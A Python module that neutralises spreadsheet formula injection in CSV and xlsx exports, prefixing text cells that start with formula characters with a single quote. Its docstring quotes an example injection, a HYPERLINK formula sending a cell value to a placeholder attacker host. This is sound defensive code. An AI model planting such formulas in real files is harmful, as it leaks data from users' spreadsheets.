"""Text cells a spreadsheet would run as a formula (CSV or formula injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula, so a region title such as
``=HYPERLINK("https://evil.example/?x="&A1,"klik")`` in a snapshot or file source would become
a live link in the reader's spreadsheet. Every CSV and xlsx the app writes passes its text
through ``neutral_frame``: such a cell gets a leading single quote and stays text. Numbers are
never touched: a numeric column is left as it is, and a text cell that is just a number
("-3", "+1,5") is not a formula and keeps its value.
"""
from __future__ import annotations

import re

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?")


def neutral_cell(value: object) -> object:
    """``value`` as text that cannot start a formula; anything but text is returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutral_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if not (pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series)):
            out[column] = series.astype(object).map(neutral_cell)
    out.columns = [neutral_cell(str(c)) for c in out.columns]
    return out


def safe_csv(frame: pd.DataFrame, **to_csv) -> str | None:
    """``frame.to_csv(**to_csv)`` with every text cell neutralised."""
    return neutral_frame(frame).to_csv(**to_csv)
